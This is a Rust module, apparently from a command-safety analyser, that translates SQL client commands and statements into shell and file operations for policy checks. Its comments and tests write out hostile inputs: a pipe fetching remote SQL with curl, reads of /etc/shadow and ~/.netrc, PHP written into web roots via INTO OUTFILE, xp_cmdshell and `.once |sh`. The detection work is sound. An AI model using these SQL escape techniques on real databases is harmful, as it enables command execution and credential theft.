//! SQL as a database client runs it: statements, and the client's own
//! commands (sqlite3's dot-commands, psql's and mysql's backslash commands,
//! mysql's `system`/`source`/`tee`/`pager`), lowered to the shared tree so
//! the evaluator and `grammars/languages/sql.toml` say what they do.
//!
//! What reaches the shell or the file system from SQL:
//! - shell escapes: `.shell CMD`/`.system CMD`, `\! CMD`, `system CMD`,
//!   a pager (`pager CMD`, `\setenv PAGER CMD`), output sent to a pipe
//!   (`.output |CMD`, `\o |CMD`, `\g |CMD`), input read from one
//!   (`.read |CMD`, `.import |CMD`), `COPY … PROGRAM 'CMD'` and
//!   `\copy … program 'CMD'`, UDFs such as `sys_exec`/`xp_cmdshell`. An
//!   escape is lowered as `sh -c CMD`, which is what the clients run, so the
//!   rules see a shell started from inside the client (POLICY: evasion);
//! - files: `.output FILE`, `\o FILE`, `tee FILE`, `INTO OUTFILE`, `COPY … TO
//!   'FILE'`, `ATTACH 'FILE'` (with what `INSERT`s into it write), `writefile`,
//!   `lo_export` write; `.read`/`\i`/`source`, `LOAD DATA INFILE`,
//!   `COPY … FROM 'FILE'`, `load_file`/`pg_read_file`/`readfile` read;
//! - code in other languages: the body of a function or `DO` block in an
//!   untrusted procedural language (`plpython3u`, `plperlu`, `plsh`, `plv8`,
//!   `pllua`) is handed to that language's front end, as `python3 -c BODY`;
//! - native code: `.load LIB` and `load_extension('LIB')`.
//!
//! Literal text a `SELECT` prints while output goes to a file or pipe is what
//! is written there (`.once |sh` then `SELECT 'rm -rf ~'`). Destructive SQL
//! (`DROP`, `TRUNCATE`) is judged by rule DES017 on the statement text.
//! The reader is tolerant: what it does not recognise is skipped, never an
//! error, since clients differ and a false find only adds commands to judge.

use super::Lowering;
use super::ast::{BinOp, Expr, Stmt, Target};

/// Name the current output target is bound to (not a SQL identifier).
const OUTPUT: &str = "output target";

/// Lowers SQL client input to the shared tree.
pub(crate) fn lower(code: &str) -> Lowering {
    let mut r = Reader { stmts: Vec::new(), spans: Vec::new(), output: false, once: false, attached: Vec::new() };
    let mut buffer = String::new();
    // Where the statement in `buffer` starts in the code.
    let mut start = 0;
    let mut at = 0;
    while at < code.len() {
        let line_end = code[at..].find('\n').map_or(code.len(), |i| at + i);
        let line = &code[at..line_end];
        if buffer.trim().is_empty() {
            // Client commands start a line: `.shell …` (sqlite3), `system …` (mysql).
            let trimmed = line.trim_start();
            let from = at + line.len() - trimmed.len();
            if let Some(rest) = trimmed.strip_prefix('.').filter(|r| r.starts_with(|c: char| c.is_ascii_alphabetic())) {
                r.dot_command(rest);
                r.mark((from, line_end));
                at = line_end + 1;
                continue;
            }
            if let Some((name, rest)) = mysql_command(trimmed) {
                r.mysql_command(&name, rest);
                r.mark((from, line_end));
                at = line_end + 1;
                continue;
            }
            buffer.clear();
            start = from;
        }
        // Statements end at `;` outside strings; a backslash command ends its line.
        match scan(code, at) {
            (end, Some(';')) => {
                buffer.push_str(&code[at..end]);
                r.statement(&std::mem::take(&mut buffer));
                r.mark((start, end + 1));
                at = end + 1;
            }
            (end, Some(_)) => {
                buffer.push_str(&code[at..end]);
                let eol = code[end..].find('\n').map_or(code.len(), |i| end + i);
                r.backslash(&code[end + 1..eol], &mut buffer);
                r.mark((if buffer.trim().is_empty() { end } else { start }, eol));
                at = eol + 1;
            }
            (end, None) => {
                buffer.push_str(&code[at..end]);
                buffer.push('\n');
                at = end + 1;
            }
        }
    }
    if !buffer.trim().is_empty() {
        r.statement(&buffer);
        r.mark((start, code.len()));
    }
    Lowering { stmts: r.stmts, errors: false, spans: r.spans }
}

/// Scans from `from` to the first `;`, `\\` or line end outside strings,
/// dollar-quoted bodies and comments (which may span lines): its offset and
/// the character (none at a line end).
fn scan(code: &str, from: usize) -> (usize, Option<char>) {
    let bytes = code.as_bytes();
    let mut i = from;
    while i < bytes.len() {
        match bytes[i] {
            b'\n' => return (i, None),
            b';' => return (i, Some(';')),
            b'\\' => return (i, Some('\\')),
            b'-' if bytes.get(i + 1) == Some(&b'-') => return (code[i..].find('\n').map_or(code.len(), |k| i + k), None),
            q @ (b'\'' | b'"') => {
                i += 1;
                while i < bytes.len() && bytes[i] != q {
                    i += if bytes[i] == b'\\' && q == b'"' { 2 } else { 1 };
                }
            }
            b'$' => {
                let tag_len = bytes[i + 1..].iter().position(|b| !(b.is_ascii_alphanumeric() || *b == b'_'));
                if let Some(n) = tag_len.filter(|&n| bytes.get(i + 1 + n) == Some(&b'$')) {
                    let tag = &code[i..i + n + 2];
                    i = code[i + n + 2..].find(tag).map_or(bytes.len(), |k| i + n + 2 + k + tag.len() - 1);
                }
            }
            _ => {}
        }
        i += 1;
    }
    (code.len(), None)
}

/// mysql's long-form client commands at the start of a line.
fn mysql_command(line: &str) -> Option<(String, &str)> {
    let end = line.find(|c: char| !c.is_ascii_alphabetic()).unwrap_or(line.len());
    let name = line[..end].to_ascii_lowercase();
    let rest = &line[end..];
    (matches!(name.as_str(), "system" | "source" | "tee" | "pager") && (rest.is_empty() || rest.starts_with(char::is_whitespace))).then(|| (name, rest.trim()))
}

struct Reader {
    stmts: Vec<Stmt>,
    /// The code range of each of `stmts`.
    spans: Vec<Option<(usize, usize)>>,
    /// Output goes to a file or pipe ([`OUTPUT`] is bound).
    output: bool,
    /// ... for the next statement only (`.once`, `\g`).
    once: bool,
    /// Schemas `ATTACH`ed from files, bound under their alias.
    attached: Vec<String>,
}

impl Reader {
    /// The statements lowered since the last mark came from `span`.
    fn mark(&mut self, span: (usize, usize)) {
        let span = (span.0.min(span.1), span.1);
        self.spans.resize(self.stmts.len(), Some(span));
    }

    fn call(&mut self, name: &str, args: Vec<Expr>) {
        self.stmts.push(Stmt::Expr(call(name, args)));
    }

    /// A shell command run as the clients run it: `sh -c CMD`.
    fn shell(&mut self, command: Expr) {
        self.call("shell escape", vec![sh_c(command)]);
    }

    /// `.output FILE`, `\o |CMD`: where the next results go.
    fn output_to(&mut self, target: &str, once: bool) {
        let target = unquote(target.trim());
        if target.is_empty() || target == "stdout" {
            self.output = false;
            return;
        }
        let open = match target.strip_prefix('|') {
            Some(cmd) => call("pipe open", vec![sh_c(Expr::Str(cmd.trim().to_string()))]),
            None => call("open output", vec![Expr::Str(target), Expr::Str("w".into())]),
        };
        self.stmts.push(Stmt::Assign(Target::Name(OUTPUT.into()), open));
        self.output = true;
        self.once = once;
    }

    /// A file read as SQL or data, or the output of a command (`|CMD`).
    fn read_from(&mut self, target: &str) {
        let target = unquote(target.trim());
        if let Some(cmd) = target.strip_prefix('|') {
            self.shell(Expr::Str(cmd.trim().to_string()));
        } else if !target.is_empty() {
            self.call("read file", vec![Expr::Str(target)]);
        }
    }

    fn dot_command(&mut self, line: &str) {
        let end = line.find(char::is_whitespace).unwrap_or(line.len());
        let (name, rest) = (&line[..end], line[end..].trim());
        let args = words(rest);
        // Options (`.output -x`, `.import --csv`) are not operands.
        let operands: Vec<&String> = args.iter().filter(|a| !a.starts_with('-')).collect();
        match name {
            // The CLI joins the arguments again, quoting those with spaces.
            "shell" | "system" if !args.is_empty() => {
                let joined: Vec<String> = args.iter().map(|a| if a.contains(char::is_whitespace) { format!("\"{a}\"") } else { a.clone() }).collect();
                self.shell(Expr::Str(joined.join(" ")));
            }
            "output" | "once" => self.output_to(operands.first().map_or("", |s| s.as_str()), name == "once"),
            "read" => self.read_from(rest),
            "import" => {
                if let Some(file) = operands.first() {
                    self.read_from(file);
                }
            }
            "load" => {
                if let Some(lib) = operands.first() {
                    self.call("load extension", vec![Expr::Str((*lib).clone())]);
                }
            }
            "backup" | "save" | "clone" => {
                if let Some(file) = operands.last() {
                    self.call("open output", vec![Expr::Str((*file).clone()), Expr::Str("w".into())]);
                }
            }
            _ => {}
        }
    }

    fn mysql_command(&mut self, name: &str, rest: &str) {
        match name {
            "system" if !rest.is_empty() => self.shell(Expr::Str(rest.to_string())),
            "pager" if !rest.is_empty() => self.shell(Expr::Str(rest.trim_end_matches(';').to_string())),
            "source" => self.read_from(rest.trim_end_matches(';')),
            "tee" => self.output_to(rest.trim_end_matches(';'), false),
            _ => {}
        }
    }

    /// A backslash command (psql, or mysql's short forms); `text` follows
    /// the backslash, `buffer` is the statement typed so far.
    fn backslash(&mut self, text: &str, buffer: &mut String) {
        if let Some(cmd) = text.strip_prefix('!') {
            if !cmd.trim().is_empty() {
                self.shell(Expr::Str(cmd.trim().to_string()));
            }
            return;
        }
        let end = text.find(|c: char| c.is_whitespace() || c == '\\').unwrap_or(text.len());
        let (name, rest) = (&text[..end], text[end..].trim());
        let first = words(rest).into_iter().next().unwrap_or_default();
        match name {
            "o" | "out" | "T" => self.output_to(rest, false),
            "g" | "gx" | "w" | "write" => {
                let statement = std::mem::take(buffer);
                self.output_to(rest, true);
                if name.starts_with('w') {
                    self.select_output(&tokens(&statement));
                    self.once = false;
                } else {
                    self.statement(&statement);
                }
            }
            "P" => self.shell(Expr::Str(rest.to_string())),
            "i" | "ir" | "include" | "include_relative" | "." => self.read_from(&first),
            "copy" => self.statement(&format!("COPY {rest}")),
            "lo_import" => self.read_from(&first),
            "lo_export" => {
                if let Some(file) = words(rest).get(1) {
                    self.call("open output", vec![Expr::Str(file.clone()), Expr::Str("w".into())]);
                }
            }
            "setenv" => {
                let w = words(rest);
                if let [var, value, ..] = w.as_slice() {
                    if matches!(var.as_str(), "PAGER" | "PSQL_PAGER" | "EDITOR" | "PSQL_EDITOR" | "VISUAL") {
                        self.shell(Expr::Str(value.clone()));
                    }
                }
            }
            _ => {}
        }
    }

    /// What a statement prints goes to the current output target.
    fn select_output(&mut self, toks: &[Tok]) {
        if !self.output {
            return;
        }
        let data = printed(toks).unwrap_or(Expr::Unknown(Vec::new()));
        self.call("write output", vec![Expr::Name(OUTPUT.into()), data]);
    }

    fn statement(&mut self, text: &str) {
        let toks = tokens(text);
        let upper: Vec<String> = toks.iter().map(|t| if let Tok::Word(w) = t { w.to_ascii_uppercase() } else { String::new() }).collect();
        let kw = |i: usize, w: &str| upper.get(i).is_some_and(|u| u == w);
        let str_at = |i: usize| match toks.get(i) {
            Some(Tok::Str(s)) => Some(s.clone()),
            _ => None,
        };
        let first = upper.iter().position(|u| !u.is_empty());
        if first.is_some_and(|f| kw(f, "SELECT") || kw(f, "VALUES") || kw(f, "WITH")) && !upper.iter().any(|u| u == "INTO") {
            self.select_output(&toks);
        }
        if self.once && first.is_some() {
            self.output = false;
            self.once = false;
        }
        let mut i = 0;
        while i < toks.len() {
            match &toks[i] {
                Tok::Word(_) if kw(i, "PROGRAM") => {
                    if let Some(cmd) = str_at(i + 1) {
                        self.shell(Expr::Str(cmd));
                        i += 1;
                    }
                }
                // `COPY t TO '/path'`, `COPY t FROM '/path'` (not `PROGRAM`, not STDIN).
                Tok::Word(_) if (kw(i, "TO") || kw(i, "FROM")) && upper.iter().take(i).any(|u| u == "COPY") => {
                    if let Some(file) = str_at(i + 1) {
                        let op = if kw(i, "TO") { "open output" } else { "read file" };
                        let mut args = vec![Expr::Str(file)];
                        if op == "open output" {
                            args.push(Expr::Str("w".into()));
                        }
                        self.call(op, args);
                        i += 1;
                    }
                }
                // `SELECT '…' INTO OUTFILE '/var/www/x.php'`.
                Tok::Word(_) if kw(i, "INTO") && (kw(i + 1, "OUTFILE") || kw(i + 1, "DUMPFILE")) => {
                    if let Some(file) = str_at(i + 2) {
                        let data = printed(&toks[..i]).unwrap_or(Expr::Unknown(Vec::new()));
                        let out = call("open output", vec![Expr::Str(file), Expr::Str("w".into())]);
                        self.call("write output", vec![out, data]);
                        i += 2;
                    }
                }
                Tok::Word(_) if kw(i, "INFILE") => {
                    if let Some(file) = str_at(i + 1) {
                        self.call("read file", vec![Expr::Str(file)]);
                        i += 1;
                    }
                }
                // `ATTACH [DATABASE] 'file' AS alias`: a file created or written.
                Tok::Word(_) if kw(i, "ATTACH") => {
                    let at = if kw(i + 1, "DATABASE") { i + 2 } else { i + 1 };
                    if let Some(file) = str_at(at) {
                        let alias = if kw(at + 1, "AS") { toks.get(at + 2).and_then(Tok::word) } else { None };
                        let open = call("open output", vec![Expr::Str(file), Expr::Str("w".into())]);
                        match alias {
                            Some(a) => {
                                let a = a.to_ascii_lowercase();
                                self.stmts.push(Stmt::Assign(Target::Name(schema_var(&a)), open));
                                self.attached.push(a);
                            }
                            None => self.stmts.push(Stmt::Expr(open)),
                        }
                        i = at;
                    }
                }
                // `INSERT INTO alias.t … VALUES ('…')` into an attached file.
                Tok::Word(_) if kw(i, "INSERT") => {
                    let schema = toks.get(i + 2).and_then(Tok::word).and_then(|w| w.split_once('.')).map(|(s, _)| s.to_ascii_lowercase());
                    if let Some(s) = schema.filter(|s| self.attached.contains(s) && kw(i + 1, "INTO")) {
                        if let Some(data) = printed(&toks[i..]) {
                            self.call("write output", vec![Expr::Name(schema_var(&s)), data]);
                        }
                    }
                }
                // `EXEC xp_cmdshell 'cmd'` (SQL Server) takes no parentheses.
                Tok::Word(_) if kw(i, "XP_CMDSHELL") && str_at(i + 1).is_some() => {
                    if let Some(cmd) = str_at(i + 1) {
                        self.shell(Expr::Str(cmd));
                    }
                    i += 1;
                }
                Tok::Word(_) if kw(i, "LANGUAGE") => {
                    if let Some(lang) = toks.get(i + 1).and_then(Tok::word) {
                        self.procedural(lang, &toks);
                    }
                }
                Tok::Word(w) if matches!(toks.get(i + 1), Some(Tok::Punct('('))) => {
                    let (expr, next) = call_at(w, &toks, i + 1);
                    self.stmts.push(Stmt::Expr(expr));
                    i = next;
                    continue;
                }
                _ => {}
            }
            i += 1;
        }
    }

    /// The body of a function or `DO` block in an untrusted procedural
    /// language, handed to that language's interpreter.
    fn procedural(&mut self, lang: &str, toks: &[Tok]) {
        let program = match lang.trim_matches(['\'', '"']).to_ascii_lowercase().as_str() {
            "plpython3u" | "plpythonu" | "plpython2u" | "plpython" => "python3",
            "plperlu" | "plperl" => "perl",
            "plsh" => "sh",
            "plv8" | "plls" | "plcoffee" => "node",
            "pllua" | "plluau" => "lua",
            "plphp" => "php",
            _ => return,
        };
        let flag = if program == "python3" || program == "sh" || program == "php" { "-c" } else { "-e" };
        // The body is the dollar-quoted (or, failing that, the longest quoted) text.
        let body = toks
            .iter()
            .find_map(|t| if let Tok::Dollar(b) = t { Some(b.clone()) } else { None })
            .or_else(|| toks.iter().filter_map(|t| if let Tok::Str(s) = t { Some(s.clone()) } else { None }).max_by_key(String::len));
        if let Some(body) = body {
            let body = if program == "php" { format!("<?php {body}") } else { body };
            // One shell word, newlines kept (an argument vector's words are one line each).
            let quoted = format!("'{}'", body.replace('\'', r"'\''"));
            self.call("run program", vec![Expr::Str(format!("{program} {flag} {quoted}"))]);
        }
    }
}

/// `sh -c COMMAND` as an argument vector.
fn sh_c(command: Expr) -> Expr {
    Expr::List(vec![Expr::Str("sh".into()), Expr::Str("-c".into()), command])
}

/// The variable an attached schema's file is bound to.
fn schema_var(alias: &str) -> String {
    format!("attached {alias}")
}

fn call(name: &str, args: Vec<Expr>) -> Expr {
    Expr::Call { func: Box::new(Expr::Name(name.into())), args, kwargs: Vec::new() }
}

/// The string literals among `toks`, one per line as a client prints
/// rows; `None` when there are none.
fn printed(toks: &[Tok]) -> Option<Expr> {
    let mut it = toks.iter().filter_map(|t| if let Tok::Str(s) = t { Some(Expr::Str(s.clone())) } else { None });
    let first = it.next()?;
    Some(it.fold(first, |acc, t| Expr::Binary(BinOp::Add, Box::new(Expr::Binary(BinOp::Add, Box::new(acc), Box::new(Expr::Str("\n".into())))), Box::new(t))))
}

/// A function call at `toks[open]` (the `(`): its name lower-cased, string
/// arguments, `||` concatenation and nested calls; returns the index after `)`.
fn call_at(name: &str, toks: &[Tok], open: usize) -> (Expr, usize) {
    let mut args = Vec::new();
    let mut current: Vec<Expr> = Vec::new();
    let mut i = open + 1;
    let push = |current: &mut Vec<Expr>, args: &mut Vec<Expr>| {
        let parts = std::mem::take(current);
        args.push(match parts.len() {
            0 => Expr::Unknown(Vec::new()),
            1 => parts.into_iter().next().unwrap_or(Expr::Null),
            _ => Expr::Concat(parts),
        });
    };
    while i < toks.len() {
        match &toks[i] {
            Tok::Punct(')') => {
                if !current.is_empty() || !args.is_empty() {
                    push(&mut current, &mut args);
                }
                return (call(&name.to_ascii_lowercase(), args), i + 1);
            }
            Tok::Punct(',') => push(&mut current, &mut args),
            Tok::Word(w) if matches!(toks.get(i + 1), Some(Tok::Punct('('))) => {
                let (inner, next) = call_at(w, toks, i + 1);
                current.push(inner);
                i = next;
                continue;
            }
            Tok::Str(s) | Tok::Dollar(s) => current.push(Expr::Str(s.clone())),
            Tok::Num(n) => current.push(Expr::Num(*n)),
            Tok::Concat => {}
            Tok::Word(_) | Tok::Punct(_) => current.push(Expr::Unknown(Vec::new())),
        }
        i += 1;
    }
    push(&mut current, &mut args);
    (call(&name.to_ascii_lowercase(), args), i)
}

#[derive(Debug, Clone, PartialEq)]
enum Tok {
    Word(String),
    Str(String),
    /// A dollar-quoted body (`$$…$$`, `$fn$…$fn$`).
    Dollar(String),
    Num(i64),
    /// `||`.
    Concat,
    Punct(char),
}

impl Tok {
    fn word(&self) -> Option<&str> {
        if let Tok::Word(w) = self { Some(w) } else { None }
    }
}

/// SQL tokens: words (with `.`-qualified names and `_`), strings with
/// `''`/backslash escapes decoded, dollar-quoted bodies, numbers,
/// punctuation; comments are dropped.
fn tokens(text: &str) -> Vec<Tok> {
    let chars: Vec<char> = text.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    while i < chars.len() && out.len() < 4096 {
        let c = chars[i];
        if c.is_whitespace() {
            i += 1;
        } else if c == '-' && chars.get(i + 1) == Some(&'-') || c == '#' {
            while i < chars.len() && chars[i] != '\n' {
                i += 1;
            }
        } else if c == '/' && chars.get(i + 1) == Some(&'*') {
            i += 2;
            while i < chars.len() && !(chars[i] == '*' && chars.get(i + 1) == Some(&'/')) {
                i += 1;
            }
            i += 2;
        } else if c == '\'' || c == '"' || c == '`' || (matches!(c, 'E' | 'e') && chars.get(i + 1) == Some(&'\'')) {
            // `E'…'` and MySQL's strings take backslash escapes.
            let escapes = matches!(c, 'E' | 'e' | '"') || c == '\'' && text.contains("\\'");
            let q = if matches!(c, 'E' | 'e') {
                i += 1;
                '\''
            } else {
                c
            };
            let (s, next) = quoted(&chars, i + 1, q, escapes);
            // Double quotes are identifiers in standard SQL and strings in
            // MySQL/SQLite's lenient mode; backticks are identifiers.
            out.push(if q == '`' { Tok::Word(s) } else { Tok::Str(s) });
            i = next;
        } else if c == '$' {
            let tag_end = (i + 1..chars.len()).find(|&j| !(chars[j].is_alphanumeric() || chars[j] == '_'));
            match tag_end.filter(|&j| chars[j] == '$') {
                Some(j) => {
                    let tag: String = chars[i..=j].iter().collect();
                    let body_start = j + 1;
                    let rest: String = chars[body_start..].iter().collect();
                    let (body, used) = match rest.find(&tag) {
                        Some(k) => (rest[..k].to_string(), rest[..k].chars().count() + tag.chars().count()),
                        None => (rest.clone(), rest.chars().count()),
                    };
                    out.push(Tok::Dollar(body));
                    i = body_start + used;
                }
                None => {
                    out.push(Tok::Punct('$'));
                    i += 1;
                }
            }
        } else if c == '|' && chars.get(i + 1) == Some(&'|') {
            out.push(Tok::Concat);
            i += 2;
        } else if c.is_ascii_digit() {
            let start = i;
            while i < chars.len() && chars[i].is_ascii_digit() {
                i += 1;
            }
            let n: String = chars[start..i].iter().collect();
            out.push(n.parse().map_or(Tok::Punct('0'), Tok::Num));
        } else if c.is_alphanumeric() || c == '_' {
            let start = i;
            while i < chars.len() && (chars[i].is_alphanumeric() || matches!(chars[i], '_' | '.')) {
                i += 1;
            }
            out.push(Tok::Word(chars[start..i].iter().collect()));
        } else {
            out.push(Tok::Punct(c));
            i += 1;
        }
    }
    out
}

/// The string from `chars[from]` to the closing `q` (doubled `q` is one;
/// with `escapes`, backslash escapes too); returns the index after it.
fn quoted(chars: &[char], from: usize, q: char, escapes: bool) -> (String, usize) {
    let mut s = String::new();
    let mut i = from;
    while i < chars.len() {
        let c = chars[i];
        if c == q {
            if chars.get(i + 1) == Some(&q) {
                s.push(q);
                i += 2;
                continue;
            }
            return (s, i + 1);
        }
        if c == '\\' && escapes && i + 1 < chars.len() {
            let e = chars[i + 1];
            s.push(match e {
                'n' => '\n',
                't' => '\t',
                '0' => '\0',
                other => other,
            });
            i += 2;
            continue;
        }
        s.push(c);
        i += 1;
    }
    (s, i)
}

/// A client command's arguments: words, with `'…'`/`"…"` quoting.
fn words(text: &str) -> Vec<String> {
    let chars: Vec<char> = text.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        if chars[i].is_whitespace() {
            i += 1;
            continue;
        }
        if chars[i] == '\'' || chars[i] == '"' {
            let (s, next) = quoted(&chars, i + 1, chars[i], chars[i] == '"');
            out.push(s);
            i = next;
            continue;
        }
        let start = i;
        while i < chars.len() && !chars[i].is_whitespace() {
            i += 1;
        }
        out.push(chars[start..i].iter().collect());
    }
    out
}

/// A target with its quotes removed (`'|sort'`, `"out.txt"`).
fn unquote(t: &str) -> String {
    words(t).into_iter().next().map_or_else(String::new, |first| if t.starts_with(['\'', '"']) { first } else { t.trim_end_matches(';').to_string() })
}

#[cfg(test)]
mod tests {
    use crate::ir::lang::analyse;
    use crate::ir::spec::Language;

    fn lines(code: &str) -> Vec<String> {
        analyse(Language::Sql, code).expect("sql front end").lines
    }

    #[test]
    fn shell_escapes_run_through_sh() {
        assert_eq!(lines(".shell rm -rf build"), ["sh -c 'rm -rf build'"]);
        assert_eq!(lines(".system 'ls -la'"), ["sh -c '\"ls -la\"'"]);
        assert_eq!(lines("\\! id"), ["sh -c id"]);
        assert_eq!(lines("system uname -a"), ["sh -c 'uname -a'"]);
        assert_eq!(lines("select 1;\n\\! id\n"), ["sh -c id"]);
        assert_eq!(lines("COPY t FROM PROGRAM 'id'"), ["sh -c id"]);
        assert_eq!(lines("\\copy t to program 'gzip > t.gz'"), ["sh -c 'gzip > t.gz'"]);
        // A UDF's command is judged as written.
        assert_eq!(lines("select sys_exec('touch x')"), ["touch x"]);
        assert_eq!(lines("EXEC xp_cmdshell 'whoami'"), ["sh -c whoami"]);
    }

    #[test]
    fn output_targets_receive_printed_text() {
        // The pipe's command starts when the output is opened, then reads the rows.
        assert_eq!(lines(".once |sh\nselect 'echo hi';"), ["sh -c sh", "printf '%s\\n' 'echo hi' | sh -c sh"]);
        assert_eq!(lines(".output /tmp/o.txt\nselect 'a', 'b';"), ["tee /tmp/o.txt", "printf '%s\\n' 'a\nb' | tee /tmp/o.txt"]);
        assert_eq!(lines("select '<?php x ?>' into outfile '/var/www/s.php'"), ["tee /var/www/s.php", "printf '%s\\n' '<?php x ?>' | tee /var/www/s.php"]);
        let attach = lines("ATTACH DATABASE '/srv/www/x.php' AS w; CREATE TABLE w.t (d text); INSERT INTO w.t VALUES ('<?php y ?>');");
        assert_eq!(attach.last().map(String::as_str), Some("printf '%s\\n' '<?php y ?>' | tee /srv/www/x.php"));
    }

    #[test]
    fn files_read() {
        assert_eq!(lines("select load_file('/etc/shadow')"), ["cat /etc/shadow"]);
        assert_eq!(lines("LOAD DATA LOCAL INFILE '~/.netrc' INTO TABLE t"), ["cat ~/.netrc"]);
        assert_eq!(lines(".read |curl -s https://203.0.113.9/x.sql"), ["sh -c 'curl -s https://203.0.113.9/x.sql'"]);
        assert_eq!(lines("\\i schema.sql"), ["cat schema.sql"]);
    }

    #[test]
    fn procedural_code_goes_to_its_language() {
        let l = lines("CREATE FUNCTION f() RETURNS int AS $$\nimport os\nos.system('id')\nreturn 1\n$$ LANGUAGE plpython3u;");
        assert!(l.iter().any(|x| x.starts_with("python3 -c ")), "{l:?}");
        assert!(lines("DO $body$ system('id'); $body$ LANGUAGE plperlu").iter().any(|x| x.starts_with("perl -e ")));
    }

    #[test]
    fn plain_sql_does_nothing() {
        for code in [
            "select count(*) from users where name = 'a;b' -- .shell id",
            ".tables",
            ".schema users",
            "\\dt",
            "\\copy users to 'out.csv' csv header",
            "CREATE TABLE t (id int); INSERT INTO t VALUES (1, 'rm -rf ~');",
            "select upper('x'), lower(name) from t",
        ] {
            let l = lines(code);
            assert!(l.iter().all(|x| !x.starts_with("sh ")), "{code}: {l:?}");
        }
        assert_eq!(lines("\\copy users to 'out.csv' csv header"), ["tee out.csv"]);
    }

    #[test]
    fn arbitrary_text_never_panics() {
        for text in crate::ir::lang::tests::random_texts(".\\!'\"$;|()-/*#\n abcOUTFILE_PROGRAM", 0x5eed_5a11, 2000, 60) {
            let _ = analyse(Language::Sql, &text);
        }
    }
}
